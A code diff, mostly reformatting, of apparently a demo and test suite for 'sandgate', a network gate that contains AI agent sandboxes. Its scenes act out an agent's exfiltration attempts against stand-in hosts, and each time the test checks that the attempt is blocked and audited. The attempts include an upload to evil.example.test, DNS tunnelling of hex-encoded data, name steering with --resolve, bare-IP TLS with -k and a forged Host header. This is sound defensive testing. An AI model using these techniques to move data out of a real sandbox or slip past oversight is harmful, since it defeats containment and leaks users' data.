@@ -123,8 +123,10 @@ export function baseConfig(world: DemoWorld): DemoConfig {
 /* ------------------------------------------------------------------------------------------ */
 
 const isConn = (l: JsonLine): boolean => l.event === 'conn';
-const hasDatagramFrom = (ip: string) => (l: JsonLine): boolean =>
-  typeof l.udp === 'object' && l.udp !== null && String((l.udp as JsonLine).from).startsWith(`${ip}:`);
+const hasDatagramFrom =
+  (ip: string) =>
+  (l: JsonLine): boolean =>
+    typeof l.udp === 'object' && l.udp !== null && String((l.udp as JsonLine).from).startsWith(`${ip}:`);
 
 /** The demo's credential: the real key exists only in sandgate's environment; the sandbox holds the placeholder. */
 const REAL_KEY = `sk-real-${randomBytes(16).toString('hex')}`;
@@ -150,12 +152,17 @@ export const SCENES: Scene[] = [
   {
     id: 'allowed-call',
     title: 'An allowed API call goes through (HTTPS, not decrypted)',
-    about: 'api.example.test is on the allow list. sandgate reads only the server name (SNI) from the TLS handshake, connects to that name itself and splices the bytes through, so the client still verifies the server\'s own certificate.',
+    about:
+      "api.example.test is on the allow list. sandgate reads only the server name (SNI) from the TLS handshake, connects to that name itself and splices the bytes through, so the client still verifies the server's own certificate.",
     async run(ctx) {
       const api = ctx.server('api');
       const r = await ctx.curl([`https://${api.host}/v1/models`]);
-      ctx.check(r.status === 200 && r.json?.server === 'api', `the call succeeded, answered by ${api.host}`, `expected HTTP 200 from ${api.host}, got ${r.status ? `HTTP ${r.status} from ${String(r.json?.server ?? 'an unknown server')}` : `curl exit ${r.code}`}`);
-      ctx.check(r.verify === 0 && r.status === 200, 'curl verified the server\'s own certificate: nothing decrypted the call');
+      ctx.check(
+        r.status === 200 && r.json?.server === 'api',
+        `the call succeeded, answered by ${api.host}`,
+        `expected HTTP 200 from ${api.host}, got ${r.status ? `HTTP ${r.status} from ${String(r.json?.server ?? 'an unknown server')}` : `curl exit ${r.code}`}`,
+      );
+      ctx.check(r.verify === 0 && r.status === 200, "curl verified the server's own certificate: nothing decrypted the call");
       const line = await ctx.audit((l) => isConn(l) && l.host === api.host && l.decision === 'allow');
       ctx.check(line !== undefined, 'audit: allowed by rule, SNI passthrough', 'no "allow" audit line for the call');
     },
@@ -163,7 +170,8 @@ export const SCENES: Scene[] = [
   {
     id: 'placeholder-key',
     title: 'An agent calls an API with a placeholder key; the real key stays out',
-    about: 'llm.example.test has a credential rule: sandgate terminates TLS with a certificate from its own CA (which the sandbox trusts), checks method and path, swaps the placeholder for the real key, and re-encrypts to the verified server. The key lives only in sandgate\'s process.',
+    about:
+      "llm.example.test has a credential rule: sandgate terminates TLS with a certificate from its own CA (which the sandbox trusts), checks method and path, swaps the placeholder for the real key, and re-encrypts to the verified server. The key lives only in sandgate's process.",
     setup(s) {
       s.env.DEMO_LLM_KEY = REAL_KEY;
       s.config.credentials = { ...s.config.credentials, llm: { secret: { env: 'DEMO_LLM_KEY' }, placeholder: PLACEHOLDER } };
@@ -172,23 +180,43 @@ export const SCENES: Scene[] = [
     async run(ctx) {
       const cacert = `${ctx.config.tls.caDir}/ca.pem`;
       const url = 'https://llm.example.test/v1/chat/completions';
-      const r = await ctx.curl(['-H', `Authorization: Bearer ${PLACEHOLDER}`, '-H', 'content-type: application/json', '--data', '{"model":"demo","messages":[]}', url], { cacert });
-      ctx.check(r.status === 200 && r.json?.server === 'api', 'the call succeeded through interception', `expected HTTP 200, got ${r.status || `curl exit ${r.code}`}`);
+      const r = await ctx.curl(
+        ['-H', `Authorization: Bearer ${PLACEHOLDER}`, '-H', 'content-type: application/json', '--data', '{"model":"demo","messages":[]}', url],
+        { cacert },
+      );
+      ctx.check(
+        r.status === 200 && r.json?.server === 'api',
+        'the call succeeded through interception',
+        `expected HTTP 200, got ${r.status || `curl exit ${r.code}`}`,
+      );
       const seen = await ctx.waitSeen('api', (l) => typeof l.request === 'object' && (l.request as JsonLine).path === '/v1/chat/completions', 2000);
       const auth = String(((seen?.request as JsonLine | undefined)?.headers as JsonLine | undefined)?.authorization ?? '');
       ctx.show(`server received: Authorization: ${auth.slice(0, 14)}... (the real key, ${REAL_KEY.length} characters)`);
       ctx.check(auth === `Bearer ${REAL_KEY}`, 'the server received the real key, not the placeholder', `the server received "${auth.slice(0, 20)}..."`);
-      ctx.check(!r.stdout.includes(REAL_KEY) && !r.stderr.includes(REAL_KEY), 'nothing the sandbox received contains the real key', 'the real key reached the sandbox');
+      ctx.check(
+        !r.stdout.includes(REAL_KEY) && !r.stderr.includes(REAL_KEY),
+        'nothing the sandbox received contains the real key',
+        'the real key reached the sandbox',
+      );
       const line = await ctx.audit((l) => l.event === 'http' && l.host === 'llm.example.test' && l.path === '/v1/chat/completions');
-      ctx.check(line?.credential === 'llm' && !JSON.stringify(line).includes(REAL_KEY), 'audit: credential "llm" named, its value never written', 'audit line missing or it carries the key');
+      ctx.check(
+        line?.credential === 'llm' && !JSON.stringify(line).includes(REAL_KEY),
+        'audit: credential "llm" named, its value never written',
+        'audit line missing or it carries the key',
+      );
       const denied = await ctx.curl(['-X', 'DELETE', 'https://llm.example.test/admin/users'], { cacert });
-      ctx.check(denied.status === 403 && denied.json?.by === 'sandgate', 'a method/path outside the rule gets 403 with a reason', `expected 403, got ${denied.status || `curl exit ${denied.code}`}`);
+      ctx.check(
+        denied.status === 403 && denied.json?.by === 'sandgate',
+        'a method/path outside the rule gets 403 with a reason',
+        `expected 403, got ${denied.status || `curl exit ${denied.code}`}`,
+      );
     },
   },
   {
     id: 'unlisted-host',
     title: 'A host the policy does not list is cut off',
-    about: 'The agent tries to upload notes to evil.example.test. The sandbox knows its address, but the name is not on the allow list: sandgate resets the connection after reading the ClientHello, before a single byte reaches the server.',
+    about:
+      'The agent tries to upload notes to evil.example.test. The sandbox knows its address, but the name is not on the allow list: sandgate resets the connection after reading the ClientHello, before a single byte reaches the server.',
     async run(ctx) {
       const evil = ctx.server('evil');
       const r = await ctx.curl(['--data', 'notes=the quarterly numbers', `https://${evil.host}/upload`]);
@@ -201,21 +229,31 @@ export const SCENES: Scene[] = [
   {
     id: 'name-steering',
     title: 'A listed name aimed at another address reaches the listed server',
-    about: 'The agent claims api.example.test but dials evil.example.test\'s address, hoping the gate checks the name and then connects wherever it was sent. sandgate connects to the name as it resolves it, never to the address the sandbox chose. (Both servers hold a certificate for both names here, so only sandgate\'s routing decides.)',
+    about:
+      "The agent claims api.example.test but dials evil.example.test's address, hoping the gate checks the name and then connects wherever it was sent. sandgate connects to the name as it resolves it, never to the address the sandbox chose. (Both servers hold a certificate for both names here, so only sandgate's routing decides.)",
     async run(ctx) {
       const api = ctx.server('api');
       const evil = ctx.server('evil');
       const r = await ctx.curl(['--resolve', `${api.host}:443:${evil.ip}`, `https://${api.host}/v1/models`]);
-      ctx.check(r.status === 200 && r.json?.server === 'api', `answered by ${api.host}'s server, not by ${evil.ip}`, `expected the answer from "api", got ${r.json ? String(r.json.server) : `curl exit ${r.code}`}`);
+      ctx.check(
+        r.status === 200 && r.json?.server === 'api',
+        `answered by ${api.host}'s server, not by ${evil.ip}`,
+        `expected the answer from "api", got ${r.json ? String(r.json.server) : `curl exit ${r.code}`}`,
+      );
       ctx.check(ctx.seen('evil', 'request').length === 0, `${evil.host}'s server received nothing`, `${evil.host}'s server received the request`);
       const line = await ctx.audit((l) => isConn(l) && l.host === api.host && l.dst === `${evil.ip}:443`);
-      ctx.check(line?.upstream === `${api.ip}:443`, `audit: dialled ${evil.ip}, sent to ${api.ip}`, `audit line missing or sent elsewhere (${String(line?.upstream)})`);
+      ctx.check(
+        line?.upstream === `${api.ip}:443`,
+        `audit: dialled ${evil.ip}, sent to ${api.ip}`,
+        `audit line missing or sent elsewhere (${String(line?.upstream)})`,
+      );
     },
   },
   {
     id: 'ip-literal',
     title: 'TLS to a bare IP address is denied',
-    about: 'The agent skips names altogether: HTTPS straight to an address, certificate checks off (-k). With no server name in the handshake there is nothing to hold against the allow list, so sandgate denies it.',
+    about:
+      'The agent skips names altogether: HTTPS straight to an address, certificate checks off (-k). With no server name in the handshake there is nothing to hold against the allow list, so sandgate denies it.',
     async run(ctx) {
       const evil = ctx.server('evil');
       const r = await ctx.curl(['-k', `https://${evil.ip}/upload`]);
@@ -228,21 +266,31 @@ export const SCENES: Scene[] = [
   {
     id: 'forged-host',
     title: 'Plain HTTP with a forged Host header gets a 403',
-    about: 'Plain HTTP to api.example.test is allowed on port 80. The agent connects there but names evil.example.test in the Host header. sandgate decides every request on its Host and answers 403 with a reason an agent can read.',
+    about:
+      'Plain HTTP to api.example.test is allowed on port 80. The agent connects there but names evil.example.test in the Host header. sandgate decides every request on its Host and answers 403 with a reason an agent can read.',
     async run(ctx) {
       const api = ctx.server('api');
       const evil = ctx.server('evil');
       const r = await ctx.curl(['-H', `Host: ${evil.host}`, `http://${api.host}/upload`]);
-      ctx.check(r.status === 403 && r.json?.by === 'sandgate', 'HTTP 403 from sandgate, with a reason', `expected a 403 from sandgate, got ${r.status || `curl exit ${r.code}`}`);
+      ctx.check(
+        r.status === 403 && r.json?.by === 'sandgate',
+        'HTTP 403 from sandgate, with a reason',
+        `expected a 403 from sandgate, got ${r.status || `curl exit ${r.code}`}`,
+      );
       const line = await ctx.audit((l) => l.event === 'http' && l.host === evil.host && l.decision === 'deny');
       ctx.check(line?.status === 403, 'audit: denied, status 403', 'no "deny" http audit line with status 403');
-      ctx.check(ctx.seen('api', 'request').length + ctx.seen('evil', 'request').length === 0, 'neither server received the request', 'a server received the request');
+      ctx.check(
+        ctx.seen('api', 'request').length + ctx.seen('evil', 'request').length === 0,
+        'neither server received the request',
+        'a server received the request',
+      );
     },
   },
   {
     id: 'dns-exfiltration',
     title: 'DNS: allowed names resolve; an exfiltration query never leaves',
-    about: 'The agent encodes data in a DNS name under a domain it controls and sends the query to an outside resolver address. Every DNS packet from the sandbox, to any address, lands on sandgate\'s responder: allowed names are answered from sandgate\'s own resolution, anything else gets NXDOMAIN and is never forwarded.',
+    about:
+      "The agent encodes data in a DNS name under a domain it controls and sends the query to an outside resolver address. Every DNS packet from the sandbox, to any address, lands on sandgate's responder: allowed names are answered from sandgate's own resolution, anything else gets NXDOMAIN and is never forwarded.",
     async run(ctx) {
       const evil = ctx.server('evil');
       if (DIG === undefined) {
@@ -250,10 +298,18 @@ export const SCENES: Scene[] = [
         return;
       }
       const secret = Buffer.from('the quarterly numbers').toString('hex');
-      const ok = await ctx.inSandbox(DIG, ['+short', '+time=2', '+tries=1', `@${evil.ip}`, 'llm.example.test'], { show: `dig +short @${evil.ip} llm.example.test` });
+      const ok = await ctx.inSandbox(DIG, ['+short', '+time=2', '+tries=1', `@${evil.ip}`, 'llm.example.test'], {
+        show: `dig +short @${evil.ip} llm.example.test`,
+      });
       ctx.show(`dig: ${ok.stdout.trim() || '(no answer)'}`);
-      ctx.check(ok.stdout.trim() === ctx.server('api').ip, 'an allowed name resolves (answered by sandgate, whatever address was asked)', `expected ${ctx.server('api').ip}, got "${ok.stdout.trim()}"`);
-      const bad = await ctx.inSandbox(DIG, ['+time=2', '+tries=1', `@${evil.ip}`, 'TXT', `${secret}.exfil.evil.example.test`], { show: `dig @${evil.ip} TXT ${secret.slice(0, 16)}....exfil.evil.example.test` });
+      ctx.check(
+        ok.stdout.trim() === ctx.server('api').ip,
+        'an allowed name resolves (answered by sandgate, whatever address was asked)',
+        `expected ${ctx.server('api').ip}, got "${ok.stdout.trim()}"`,
+      );
+      const bad = await ctx.inSandbox(DIG, ['+time=2', '+tries=1', `@${evil.ip}`, 'TXT', `${secret}.exfil.evil.example.test`], {
+        show: `dig @${evil.ip} TXT ${secret.slice(0, 16)}....exfil.evil.example.test`,
+      });
       const status = /status: (\w+)/.exec(bad.stdout)?.[1] ?? `dig exit ${bad.code}`;
       ctx.show(`dig: status ${status}`);
       ctx.check(status === 'NXDOMAIN', 'the exfiltration query got NXDOMAIN', `expected NXDOMAIN, got ${status}`);
@@ -264,7 +320,8 @@ export const SCENES: Scene[] = [
   {
     id: 'udp-icmp',
     title: 'UDP and ICMP (ping) go nowhere',
-    about: 'Only TCP (through sandgate) and DNS (to sandgate\'s resolver) leave a sandbox by default. The first packet of any other flow is queued to sandgate, which decides by policy (here: no UDP or ICMP rule) and writes a "packet" audit line; the kernel drops it. The same packets sent from sandgate\'s own namespace do arrive, so the drop is the gate\'s doing.',
+    about:
+      "Only TCP (through sandgate) and DNS (to sandgate's resolver) leave a sandbox by default. The first packet of any other flow is queued to sandgate, which decides by policy (here: no UDP or ICMP rule) and writes a \"packet\" audit line; the kernel drops it. The same packets sent from sandgate's own namespace do arrive, so the drop is the gate's doing.",
     async run(ctx) {
       const api = ctx.server('api');
       const evil = ctx.server('evil');
@@ -280,10 +337,23 @@ export const SCENES: Scene[] = [
       // sent after the sandbox's, marks the point by which the sandbox's would have arrived.
       const control = await ctx.inHost(process.execPath, ['-e', nodeUdpSend(evil.ip, 9999, 'control')]);
       const arrived = await ctx.waitSeen('evil', (l) => typeof l.udp === 'object' && (l.udp as JsonLine).text === 'control', 2000);
-      ctx.check(control.stdout.includes('sent') && arrived !== undefined, 'control: a datagram from the host namespace arrives', 'control datagram from the host namespace did not arrive');
-      ctx.check(ctx.seen('evil', 'udp').filter(hasDatagramFrom(ctx.sandbox.ip)).length === 0, `the sandbox's datagram never reached ${evil.ip}`, `${evil.ip} received the sandbox's datagram`);
+      ctx.check(
+        control.stdout.includes('sent') && arrived !== undefined,
+        'control: a datagram from the host namespace arrives',
+        'control datagram from the host namespace did not arrive',
+      );
+      ctx.check(
+        ctx.seen('evil', 'udp').filter(hasDatagramFrom(ctx.sandbox.ip)).length === 0,
+        `the sandbox's datagram never reached ${evil.ip}`,
+        `${evil.ip} received the sandbox's datagram`,
+      );
       const udpLine = await ctx.audit((l) => l.event === 'packet' && l.proto === 'udp' && l.dst === `${evil.ip}:9999`, 2000);
-      if (udpLine) ctx.check(udpLine.decision === 'deny', 'audit: the UDP flow was decided and denied ("packet" line)', `the UDP flow's audit line says ${String(udpLine.decision)}`);
+      if (udpLine)
+        ctx.check(
+          udpLine.decision === 'deny',
+          'audit: the UDP flow was decided and denied ("packet" line)',
+          `the UDP flow's audit line says ${String(udpLine.decision)}`,
+        );
       else ctx.skip('no "packet" audit line: the netfilter-queue binding is not built here, so the kernel dropped the flow unaudited');
       if (!p || PING === undefined) {
         ctx.skip('ping is not installed (Debian: apt-get install iputils-ping); ICMP not shown');
@@ -291,7 +361,7 @@ export const SCENES: Scene[] = [
       }
       const hostPing = await ctx.inHost(PING, ['-n', '-c', '1', '-W', '1', api.ip], { timeoutMs: 3000 });
       ctx.check(received(hostPing) === 1, 'control: ping from the host namespace is answered', 'control ping from the host namespace got no reply');
-      ctx.check(p.code !== 0 && received(p) === 0, 'the sandbox\'s ping got no reply', 'the sandbox\'s ping was answered');
+      ctx.check(p.code !== 0 && received(p) === 0, "the sandbox's ping got no reply", "the sandbox's ping was answered");
     },
   },
 ];
